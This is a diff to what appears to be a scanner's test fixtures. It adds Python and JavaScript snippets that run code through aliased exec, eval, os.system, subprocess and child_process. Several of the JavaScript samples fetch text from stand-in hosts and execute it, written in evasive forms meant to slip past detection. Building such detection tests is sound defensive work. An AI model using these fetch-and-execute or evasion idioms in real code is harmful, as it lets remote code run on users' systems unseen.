@@ -398,6 +398,12 @@ RUN_BY_PYTHON = [
         "open('stage.py', 'wb').write(X)\nimport stage",
         "with open('lib/stage.py', 'wb') as f:\n    f.write(X)\nfrom lib.stage import go",
         "import pathlib\npathlib.Path('stage.py').write_bytes(X)\nimport stage as s",
+        "run = exec\nrun(X)",
+        "run = exec # noqa\nuse = run(X)",
+        "import os\nrun = os.system\nrun(X)",
+        "from os import path, system as run\nrun(X)",
+        "import subprocess\nrun = subprocess.getoutput\nrun(X)",
+        "import os\nfrom functools import partial\nrun = partial(os.system)\nrun(X)",
     )
 ]
 RUN_BY_JAVASCRIPT = [
@@ -409,6 +415,11 @@ RUN_BY_JAVASCRIPT = [
     "const t = await (await fetch('https://c.invalid')).text();\nsetTimeout(t, 9);",
     "const code = await (await fetch('https://c.invalid')).text();\nglobalThis.setTimeout(code);",
     "await import('https://c.invalid/x.mjs');",
+    "const go = eval;\nfetch('https://c.invalid').then(r => r.text()).then(t => go(t));",
+    "const go = /* x */ eval;\nfetch('https://c.invalid').then(r => r.text()).then(t => go(t));",
+    "const { exec: go } = require('child_process');\nfetch('https://c.invalid').then(r => r.text()).then(t => go(t));",
+    "const { exec } = require('child_process');\nconst go = require('util').promisify(exec);\n"
+    "fetch('https://c.invalid').then(r => r.text()).then(t => go(t));",
     "importScripts('https://c.invalid/x.js');",
     "import('http://192.0.2.7/a.js').then(a => a.go());",
 ]
